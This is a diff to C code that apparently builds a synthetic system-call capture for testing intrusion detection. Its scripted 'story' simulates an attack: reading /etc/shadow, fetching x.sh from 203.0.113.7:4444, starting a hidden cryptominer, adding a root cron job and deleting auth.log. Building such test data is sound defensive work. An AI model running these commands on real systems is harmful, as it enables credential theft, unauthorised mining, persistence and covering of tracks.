@@ -36,22 +36,22 @@ struct gen {
 	int rc;
 };
 
-static struct ff_str S(const char *s)
-{
+static struct ff_str S(const char *s) {
 	struct ff_str r = { s, (uint32_t)strlen(s) };
 
 	return r;
 }
 
 /* argv/env blocks are NUL-separated, each item NUL-terminated */
-static struct ff_str SL(const char *s, size_t len)
-{
+static struct ff_str
+SL(const char *s, size_t len) {
 	struct ff_str r = { s, (uint32_t)len };
 
 	return r;
 }
 
-static void emit_finish(struct gen *g)
+static void
+emit_finish(struct gen *g)
 {
 	struct ff_evt ev;
 
@@ -73,14 +73,20 @@ static void ev(struct gen *g, unsigned us, uint64_t tid, uint16_t type)
 
 static int put_meta(struct gen *g)
 {
-	static const char bash_env[] = "HOME=/root\0SSH_CONNECTION=198.51.100.23 50122 10.0.0.5 22\0";
+	static const char bash_env[] =
+	    "HOME=/root\0SSH_CONNECTION=198.51.100.23 50122 10.0.0.5 22\0";
 	static const char shim_args[] = "-namespace\0moby\0-id\0" CONTAINER_ID "\0";
 	struct ff_machine mi = { .num_cpus = 2, .memory_bytes = 4ULL << 30 };
-	struct ff_iface lo = { .type = FF_IF_IPV4, .addr = { 127, 0, 0, 1 },
-			       .netmask = { 255, 0, 0, 0 }, .name = S("lo") };
-	struct ff_iface eth = { .type = FF_IF_IPV4, .addr = { 10, 0, 0, 5 },
-				.netmask = { 255, 255, 255, 0 }, .bcast = { 10, 0, 0, 255 },
-				.linkspeed = 1000, .name = S("eth0") };
+	struct ff_iface lo = { .type = FF_IF_IPV4,
+		               .addr = { 127, 0, 0, 1 },
+		               .netmask = { 255, 0, 0, 0 },
+		               .name = S("lo") };
+	struct ff_iface eth = { .type = FF_IF_IPV4,
+		                .addr = { 10, 0, 0, 5 },
+		                .netmask = { 255, 255, 255, 0 },
+		                .bcast = { 10, 0, 0, 255 },
+		                .linkspeed = 1000,
+		                .name = S("eth0") };
 	struct ff_user users[] = {
 		{ FF_UL_USER, 0, 0, S("root"), S("/root"), S("/bin/bash") },
 		{ FF_UL_USER, 33, 33, S("www-data"), S("/var/www"), S("/usr/sbin/nologin") },
@@ -88,21 +94,56 @@ static int put_meta(struct gen *g)
 		{ FF_UL_GROUP, 0, 33, S("www-data"), S(""), S("") },
 	};
 	struct ff_proc procs[] = {
-		{ .tid = 1, .pid = 1, .ptid = 0, .comm = S("systemd"), .exe = S("/sbin/init"),
-		  .exepath = S("/usr/lib/systemd/systemd"), .cwd = S("/"), .fdlimit = 1024 },
-		{ .tid = 812, .pid = 812, .ptid = 1, .comm = S("sshd"), .exe = S("sshd:"),
-		  .exepath = S("/usr/sbin/sshd"), .args = SL("root@pts/0", 11), .cwd = S("/"),
+		{ .tid = 1,
+		  .pid = 1,
+		  .ptid = 0,
+		  .comm = S("systemd"),
+		  .exe = S("/sbin/init"),
+		  .exepath = S("/usr/lib/systemd/systemd"),
+		  .cwd = S("/"),
 		  .fdlimit = 1024 },
-		{ .tid = 1200, .pid = 1200, .ptid = 812, .comm = S("bash"), .exe = S("-bash"),
-		  .exepath = S("/usr/bin/bash"), .cwd = S("/root"), .fdlimit = 1024,
-		  .env = SL(bash_env, sizeof(bash_env) - 1), .cgroups = S(""), .root = S("/") },
-		{ .tid = 1900, .pid = 1900, .ptid = 1, .comm = S("containerd-shim"),
+		{ .tid = 812,
+		  .pid = 812,
+		  .ptid = 1,
+		  .comm = S("sshd"),
+		  .exe = S("sshd:"),
+		  .exepath = S("/usr/sbin/sshd"),
+		  .args = SL("root@pts/0", 11),
+		  .cwd = S("/"),
+		  .fdlimit = 1024 },
+		{ .tid = 1200,
+		  .pid = 1200,
+		  .ptid = 812,
+		  .comm = S("bash"),
+		  .exe = S("-bash"),
+		  .exepath = S("/usr/bin/bash"),
+		  .cwd = S("/root"),
+		  .fdlimit = 1024,
+		  .env = SL(bash_env, sizeof(bash_env) - 1),
+		  .cgroups = S(""),
+		  .root = S("/") },
+		{ .tid = 1900,
+		  .pid = 1900,
+		  .ptid = 1,
+		  .comm = S("containerd-shim"),
 		  .exe = S("/usr/bin/containerd-shim-runc-v2"),
 		  .exepath = S("/usr/bin/containerd-shim-runc-v2"),
-		  .args = SL(shim_args, sizeof(shim_args) - 1), .cwd = S("/"), .fdlimit = 1024 },
-		{ .tid = 2000, .pid = 2000, .ptid = 1900, .comm = S("nginx"), .exe = S("nginx"),
-		  .exepath = S("/usr/sbin/nginx"), .cwd = S("/"), .fdlimit = 1048576, .uid = 33,
-		  .gid = 33, .cgroups = SL(DOCKER_CG, sizeof(DOCKER_CG) - 1), .vtid = 7, .vpid = 7,
+		  .args = SL(shim_args, sizeof(shim_args) - 1),
+		  .cwd = S("/"),
+		  .fdlimit = 1024 },
+		{ .tid = 2000,
+		  .pid = 2000,
+		  .ptid = 1900,
+		  .comm = S("nginx"),
+		  .exe = S("nginx"),
+		  .exepath = S("/usr/sbin/nginx"),
+		  .cwd = S("/"),
+		  .fdlimit = 1048576,
+		  .uid = 33,
+		  .gid = 33,
+		  .cgroups = SL(DOCKER_CG, sizeof(DOCKER_CG) - 1),
+		  .vtid = 7,
+		  .vpid = 7,
 		  .root = S("/") },
 	};
 	struct ff_fdinfo tty[3];
@@ -149,9 +190,9 @@ static int put_meta(struct gen *g)
 }
 
 /* parent `ptid` (child of `pptid`) forks child `tid`, which then execs `exe` with `args` */
-static void spawn(struct gen *g, uint64_t pptid, uint64_t ptid, uint64_t tid, const char *pcomm, const char *pexe,
-		  const char *filename, const char *comm, const char *args, size_t argslen,
-		  const char *cwd, const char *cgroups, size_t cglen, uint32_t uid)
+static void spawn(struct gen *g, uint64_t pptid, uint64_t ptid, uint64_t tid, const char *pcomm,
+                  const char *pexe, const char *filename, const char *comm, const char *args,
+                  size_t argslen, const char *cwd, const char *cgroups, size_t cglen, uint32_t uid)
 {
 	static const char env[] = "HOME=/root\0PATH=/usr/sbin:/usr/bin:/sbin:/bin\0";
 
@@ -159,24 +200,25 @@ static void spawn(struct gen *g, uint64_t pptid, uint64_t ptid, uint64_t tid, co
 	emit_finish(g);
 	ev(g, 85, ptid, FFE_CLONE_X);
 	ff_evtb_params(&g->b, 20, (long long)tid, pexe, "", 0LL, (long long)ptid, (long long)ptid,
-		       (long long)pptid, cwd, 1024LL, 0LL, 120LL, 8800LL, 3900LL, 0LL, pcomm,
-		       cgroups, (long long)cglen, 0x800011LL /* CHILD_CLEARTID|CHILD_SETTID|SIGCHLD */,
-		       (long long)uid, (long long)uid, (long long)ptid, (long long)ptid);
+	               (long long)pptid, cwd, 1024LL, 0LL, 120LL, 8800LL, 3900LL, 0LL, pcomm,
+	               cgroups, (long long)cglen,
+	               0x1800000LL /* PPM_CL_CHILD_CLEARTID|PPM_CL_CHILD_SETTID */, (long long)uid,
+	               (long long)uid, (long long)ptid, (long long)ptid);
 	emit_finish(g);
 	ev(g, 12, tid, FFE_CLONE_X);
 	ff_evtb_params(&g->b, 20, 0LL, pexe, "", 0LL, (long long)tid, (long long)tid,
-		       (long long)ptid, cwd, 1024LL, 0LL, 0LL, 8800LL, 1200LL, 0LL, pcomm, cgroups,
-		       (long long)cglen, 0x800011LL, (long long)uid, (long long)uid, (long long)tid,
-		       (long long)tid);
+	               (long long)ptid, cwd, 1024LL, 0LL, 0LL, 8800LL, 1200LL, 0LL, pcomm, cgroups,
+	               (long long)cglen, 0x1800000LL, (long long)uid, (long long)uid, (long long)tid,
+	               (long long)tid);
 	emit_finish(g);
 	ev(g, 60, tid, FFE_EXECVE_E);
 	ff_evtb_params(&g->b, -1, filename);
 	emit_finish(g);
 	ev(g, 310, tid, FFE_EXECVE_X);
-	ff_evtb_params(&g->b, 20, 0LL, filename, args, (long long)argslen, (long long)tid,
-		       (long long)tid, (long long)ptid, cwd, 1024LL, 0LL, 95LL, 5600LL, 1000LL, 0LL,
-		       comm, cgroups, (long long)cglen, env, (long long)(sizeof(env) - 1),
-		       34816LL /* tty */, (long long)tid, uid == 0 ? 0LL : 4294967295LL, 0LL);
+	ff_evtb_params(&g->b, 20, 0LL, comm, args, (long long)argslen, (long long)tid,
+	               (long long)tid, (long long)ptid, cwd, 1024LL, 0LL, 95LL, 5600LL, 1000LL, 0LL,
+	               comm, cgroups, (long long)cglen, env, (long long)(sizeof(env) - 1),
+	               34816LL /* tty */, (long long)tid, uid == 0 ? 0LL : 4294967295LL, 0LL);
 	emit_finish(g);
 }
 
@@ -188,7 +230,7 @@ static void procexit(struct gen *g, uint64_t tid)
 }
 
 static void openat(struct gen *g, uint64_t tid, const char *path, long long flags, long long mode,
-		   long long fd)
+                   long long fd)
 {
 	ev(g, 25, tid, FFE_OPENAT_E);
 	ff_evtb_params(&g->b, 4, -100LL, path, flags, mode);
@@ -199,7 +241,7 @@ static void openat(struct gen *g, uint64_t tid, const char *path, long long flag
 }
 
 static void rw(struct gen *g, uint64_t tid, int is_write, long long fd, const char *data,
-	       long long len)
+               long long len)
 {
 	ev(g, 20, tid, is_write ? FFE_WRITE_E : FFE_READ_E);
 	ff_evtb_params(&g->b, 2, fd, len);
@@ -222,15 +264,16 @@ static void closefd(struct gen *g, uint64_t tid, long long fd)
 static int story(struct gen *g)
 {
 	static const char shadow[] = "root:$6$Gq1x$Zk9.d1/oP2w0rXj3u:19700:0:99999:7:::\n"
-				     "daemon:*:19700:0:99999:7:::\n";
+	                             "daemon:*:19700:0:99999:7:::\n";
 	static const char get[] = "GET /x.sh HTTP/1.1\r\nHost: 203.0.113.7:4444\r\n\r\n";
 	static const char resp[] = "HTTP/1.1 200 OK\r\nContent-Length: 61\r\n\r\n";
-	static const char payload[] = "#!/bin/sh\nnohup /tmp/.x/miner -o pool:3333 >/dev/null 2>&1 &\n";
+	static const char payload[] =
+	    "#!/bin/sh\nnohup /tmp/.x/miner -o pool:3333 >/dev/null 2>&1 &\n";
 	static const char cron[] = "* * * * * root /tmp/.x.sh\n";
 
 	/* 1. cat /etc/shadow */
-	spawn(g, 812, 1200, 1301, "bash", "-bash", "/usr/bin/cat", "cat", "/etc/shadow", 12, "/root",
-	      "", 0, 0);
+	spawn(g, 812, 1200, 1301, "bash", "-bash", "/usr/bin/cat", "cat", "/etc/shadow", 12,
+	      "/root", "", 0, 0);
 	openat(g, 1301, "/etc/shadow", 1 /* O_RDONLY */, 0, 3);
 	rw(g, 1301, 0, 3, shadow, (long long)sizeof(shadow) - 1);
 	rw(g, 1301, 1, 1, shadow, (long long)sizeof(shadow) - 1);
@@ -280,7 +323,7 @@ static int story(struct gen *g)
 	closefd(g, 1200, 3);
 
 	/* 5. rm -f /var/log/auth.log */
-	spawn(g, 812, 1200, 1304, "bash", "-bash", "/usr/bin/rm", "rm", "-f\0/var/log/auth.log", 19,
+	spawn(g, 812, 1200, 1304, "bash", "-bash", "/usr/bin/rm", "rm", "-f\0/var/log/auth.log", 21,
 	      "/root", "", 0, 0);
 	ev(g, 80, 1304, FFE_UNLINKAT_E);
 	emit_finish(g);
